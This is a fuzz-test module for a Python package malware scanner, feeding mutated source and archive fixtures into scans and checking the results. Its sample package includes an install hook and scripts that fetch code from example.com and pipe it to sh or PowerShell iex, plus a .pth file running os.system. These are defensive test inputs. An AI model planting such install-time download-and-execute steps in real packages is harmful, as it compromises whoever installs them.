import { strict as assert } from "node:assert";
import { globSync, readFileSync } from "node:fs";
import path from "node:path";
import * as fc from "fast-check";
import { type ArtifactSource, openArtifact } from "../../../main/archive/open-artifact.ts";
import { type Analysis, analysisSchema } from "../../../main/model/analysis/analysis.ts";
import { isPartOfBytes } from "../../../main/model/analysis/layer.ts";
import { defaultLimits, type Limits } from "../../../main/model/limits.ts";
import { decodeText } from "../../../main/model/text/decode-text.ts";
import { type Document, positionAt } from "../../../main/model/text/document.ts";
import { loadSyntaxEngine } from "../../../main/python/engine/load-engine.ts";
import { scanContents } from "../../../main/scan/scan-contents.ts";
import { scanTask } from "../../../main/scan/scan-task.ts";
import type { ScanOutcome } from "../../../main/scan/scanned-package.ts";
import { buildTar } from "../../support/tar-builder.ts";
import { type FuzzTarget, fuzzTarget } from "../fuzz-target.ts";
import { mutated, mutatedText, soup } from "../mutate.ts";
import { assertSafeLine, assertSpan } from "../promises.ts";

const root = path.resolve(import.meta.dirname, "../../..");
/** Nothing by the clock, so that the second scan gives the same; few steps, so that each is quick. */
const limits: Limits = {
	...defaultLimits,
	openMilliseconds: 3_600_000,
	parseMilliseconds: 3_600_000,
	foldMilliseconds: 3_600_000,
	foldSteps: 100_000,
	foldedLength: 256 * 1024,
	layerBytes: 1024 * 1024,
	layers: 200,
};

const engine = await loadSyntaxEngine();

async function scan(source: ArtifactSource): Promise<ScanOutcome & { readonly texts: ReadonlyMap<string, Document> }> {
	const opened = await openArtifact(source, { limits });
	try {
		const task = {
			artifact: opened.artifact,
			members: opened.members,
			...(await scanContents(opened)),
			coverage: opened.coverage,
			skip: new Map<string, string>(),
			limits,
			prefilter: false,
			startedAt: 0,
		};
		const outcome = await scanTask(engine, task, {
			cancelled: () => false,
			reading: () => undefined,
			progress: () => undefined,
		});
		const texts = new Map<string, Document>();
		for (const [id, bytes] of task.contents) texts.set(id, decodeText(bytes, "python").document);
		for (const { layerId, bytes } of outcome.layerContents) texts.set(layerId, decodeText(bytes, "text").document);
		return { ...outcome, texts };
	} finally {
		await opened.close();
	}
}

/** The words with which the scan owns up to a fault of its own: each is a bug. */
const OWN_FAULT = /reader failed|^the rule .* failed|metadata could not be read/;

function look(analysis: Analysis, texts: ReadonlyMap<string, Document>): void {
	const parsed = analysisSchema.safeParse(analysis);
	assert.ok(parsed.success, `the analysis breaks its schema: ${parsed.error?.issues[0]?.path.join(".")}`);
	for (const { path, reason } of analysis.coverage.skipped) {
		assert.ok(!OWN_FAULT.test(reason), `${path}: ${reason}`);
		assertSafeLine(path, "a path of the coverage");
		assertSafeLine(reason, "a reason of the coverage");
	}
	for (const finding of analysis.findings) {
		const { rule } = finding;
		for (const [text, what] of [
			[finding.message, "message"],
			[finding.excerpt, "excerpt"],
			[finding.path, "path"],
			...finding.reachPath.map((step) => [step, "way"] as const),
			...finding.evidence.map(({ value }) => [value, "value"] as const),
			...finding.layers.map((layer) => [layer, "layers"] as const),
		] as const)
			assertSafeLine(text, `the ${what} of ${rule}`);
		const outer = analysis.layers.find((layer) => layer.id === finding.layerIds[0]);
		// Bytecode has no place in its bytes, and a part of bytes none in a text.
		const elsewhere = outer !== undefined && (outer.span.endOffset === 0 || isPartOfBytes(outer));
		const document = texts.get(finding.memberId ?? "");
		if (document && !elsewhere) assertSpan(finding.span, document, rule);
		const inner = texts.get(finding.layerIds.at(-1) ?? "");
		if (inner && finding.layerSpan) assertSpan(finding.layerSpan, inner, `${rule}, in its layer`);
	}
	for (const layer of analysis.layers) {
		const parent = texts.get(layer.parentId ?? layer.memberId);
		if (parent && layer.span.endOffset > 0 && !isPartOfBytes(layer))
			assert.ok(
				layer.span.startOffset <= layer.span.endOffset && layer.span.endOffset <= parent.text.length,
				`layer ${layer.id}: ${layer.span.startOffset}–${layer.span.endOffset} of ${parent.text.length}`,
			);
	}
	for (const { path, startLine } of analysis.indicators) {
		assertSafeLine(path, "an indicator's path");
		assert.ok(startLine >= 1);
	}
	for (const sentence of analysis.verdict.story) assertSafeLine(sentence, "the story");
	for (const { text } of [...analysis.verdict.reasons, ...analysis.verdict.wouldBe]) assertSafeLine(text, "a reason");
}

async function check(source: ArtifactSource): Promise<void> {
	const { analysis, texts } = await scan(source);
	look(analysis, texts);
	const again = await scan(source);
	assert.deepEqual({ ...again.analysis, durationMs: 0 }, { ...analysis, durationMs: 0 });
	for (const document of texts.values()) positionAt(document, document.text.length);
}

const specimens = globSync("test/specimens/*/*/**/*.py", { cwd: root })
	.sort()
	.map((file) => readFileSync(path.join(root, file), "utf8"))
	.filter((text) => text.length < 6_000);

const tokens = [
	"import ",
	"from ",
	" as ",
	"os",
	"sys",
	"subprocess",
	"base64",
	"zlib",
	"socket",
	"urllib.request",
	"requests",
	"ctypes",
	"setuptools",
	"exec",
	"eval",
	"compile",
	"__import__",
	"getattr",
	"globals()",
	"open",
	"lambda ",
	"lambda: ",
	"def f(a, *b, c=1, **d):\n",
	"class C(B):\n",
	"async def g():\n",
	"    ",
	"\t",
	"\n",
	"\r\n",
	"return ",
	"yield ",
	"await ",
	"with ",
	"for ",
	" in ",
	"while ",
	"if ",
	"else:\n",
	"elif ",
	"try:\n",
	"except ",
	"finally:\n",
	"raise ",
	"global ",
	"nonlocal ",
	"del ",
	"assert ",
	"pass\n",
	"match x:\n",
	"case ",
	"print ",
	'exec "x" in d\n',
	"`x`",
	"<>",
	"(",
	")",
	"[",
	"]",
	"{",
	"}",
	",",
	":",
	";",
	".",
	"=",
	":=",
	"->",
	"==",
	"+",
	"-",
	"*",
	"**",
	"/",
	"//",
	"%",
	"@",
	"&",
	"|",
	"^",
	"~",
	"<<",
	">>",
	"not ",
	"and ",
	"or ",
	"is ",
	'"',
	"'",
	'"""',
	"'''",
	'f"{',
	'}"',
	"f'{x!r:>{y}}'",
	"b'",
	'r"',
	"rb'\\x",
	"u'",
	"\\",
	"\\\n",
	"\\x41",
	"\\N{BULLET}",
	"\\u202e",
	"0x1f",
	"1_000",
	"1e400",
	"1j",
	"0b1",
	"0o7",
	"9".repeat(400),
	"...",
	"None",
	"True",
	"x",
	"y",
	"f",
	"self",
	"__builtins__",
	"__name__",
	"'__main__'",
	"__file__",
	"'aW1wb3J0IG9z'",
	"base64.b64decode(",
	"bytes([",
	"chr(",
	"ord(",
	"''.join(",
	"map(",
	"zip(",
	"range(10)",
	"range(10**9)",
	"[::-1]",
	"[-1]",
	"[1:]",
	".format(",
	" % (",
	".replace('a', 'b')",
	".decode('rot13')",
	".split(",
	".translate(",
	"* 10**8",
	"* 1000",
	"<< 10**6",
	"** 10**5",
	"int('1' * 5000)",
	"os.system(",
	"subprocess.Popen(",
	"shell=True",
	"requests.get('https://example.com/x')",
	".text",
	".content",
	"open('x', 'w').write(",
	"#",
	"# coding: rot13\n",
	"# -*- coding: utf-7 -*-\n",
	"\f",
	"\0",
	"\ufeff",
	"\u2028",
	"\u200b",
	"caf\u00e9",
	"\u{1d52c}\u{1d530}",
	"\u0430",
	"\ud800",
];

export const pythonTarget: FuzzTarget = fuzzTarget(
	"python",
	40,
	fc.oneof(
		{ weight: 3, arbitrary: mutatedText(specimens, tokens) },
		{ weight: 2, arbitrary: soup(tokens, 120, 3_000) },
	),
	async (text) => {
		// Text without a single byte is no artifact.
		if (text === "") return;
		await check({ kind: "text", text });
	},
);

const members: readonly (readonly [name: string, text: string])[] = [
	[
		"setup.py",
		"from setuptools import setup\nfrom setuptools.command.install import install\nclass X(install):\n    def run(self):\n        import demo.core\n        demo.core.go()\nsetup(name='demo', version='1.0', cmdclass={'install': X}, install_requires=['requests'])\n",
	],
	[
		"pyproject.toml",
		"[build-system]\nrequires = ['setuptools']\nbuild-backend = 'backend'\nbackend-path = ['.']\n[project]\nname = 'demo'\nversion = '1.0'\ndependencies = ['a', 'b @ https://example.com/b.zip']\n[project.scripts]\nrun = 'demo.cli:main'\n",
	],
	[
		"setup.cfg",
		"[metadata]\nname = demo\nversion = attr: demo.VERSION\n[options]\ninstall_requires =\n  requests\n[options.entry_points]\nconsole_scripts =\n  run = demo.cli:main\n",
	],
	[
		"PKG-INFO",
		"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nHome-page: https://example.com\nAuthor-email: a@example.com\n\nText\n",
	],
	["demo/__init__.py", "from .core import go\nVERSION = '1.0'\nKEY = 'aHR0cHM6Ly9leGFtcGxlLmNvbS94'\n"],
	[
		"demo/core.py",
		"import base64, os, subprocess\nfrom . import KEY\ndef go():\n    url = base64.b64decode(KEY).decode()\n    subprocess.Popen(['sh', '-c', 'curl ' + url + ' | sh'])\n    os.system('sh run.sh')\n",
	],
	["demo/cli.py", "from demo.core import *\ndef main():\n    go()\nif __name__ == '__main__':\n    main()\n"],
	["demo/evil.pth", "import os; os.system('id')\n"],
	["demo/run.sh", "#!/bin/sh\ncurl -s https://example.com/x | sh\n"],
	["demo/run.ps1", "iex (New-Object Net.WebClient).DownloadString('https://example.com/x')\n"],
	["demo/n.ipynb", '{"cells": [{"cell_type": "code", "source": ["import os\\n"]}], "nbformat": 4}'],
	["demo.egg-info/requires.txt", "requests\n[dev]\npytest\n"],
	["demo.egg-info/entry_points.txt", "[console_scripts]\nrun = demo.cli:main\n"],
	["demo.egg-info/SOURCES.txt", "setup.py\n"],
	["demo-1.0.dist-info/RECORD", "demo/__init__.py,sha256=x,1\n"],
	["demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\nRequires-Dist: x\n"],
];

/** A whole package, some of its members damaged: layout, metadata, siblings, reach, scripts and rules about the whole. */
export const packageTarget: FuzzTarget = fuzzTarget(
	"package",
	20,
	fc.tuple(
		fc.subarray([...members], { minLength: 1 }),
		fc.array(
			fc.record({
				at: fc.nat(30),
				text: fc.oneof(
					mutatedText(
						members.map(([, text]) => text),
						tokens,
					),
					soup(tokens, 40),
				),
			}),
			{ maxLength: 3 },
		),
		fc.array(
			fc.record({ at: fc.nat(30), bytes: mutated(members.map(([, text]) => new Uint8Array(Buffer.from(text)))) }),
			{ maxLength: 2 },
		),
		fc.array(
			fc.tuple(
				fc.nat(30),
				fc.constantFrom(
					"demo/x.PY",
					"../y.py",
					"demo\u202eyp.exe",
					"a".repeat(300),
					"demo/__init__.pyc",
					"LICENSE",
					"demo/x.pyi",
					"tests/t.py",
				),
			),
			{ maxLength: 2 },
		),
		fc.constantFrom("demo-1.0.tar", "demo-1.0-py3-none-any.whl", "demo.tar", "x"),
	),
	async ([chosen, texts, raws, renamed, filename]) => {
		const made: { name: string; content: string | Uint8Array }[] = chosen.map(([name, content]) => ({ name, content }));
		for (const { at, text } of texts)
			made.splice(at % made.length, 1, { name: made[at % made.length]?.name ?? "x", content: text });
		for (const { at, bytes } of raws)
			made.splice(at % made.length, 1, { name: made[at % made.length]?.name ?? "x", content: bytes });
		for (const [at, name] of renamed)
			made.splice(at % made.length, 1, { name, content: made[at % made.length]?.content ?? "" });
		const bytes = buildTar(
			made.map(({ name, content }) => ({
				name: `demo-1.0/${name}`,
				content,
				...(name.length > 80 && { longName: true }),
			})),
		);
		await check({ kind: "bytes", filename, bytes, origin: "upload" });
	},
);
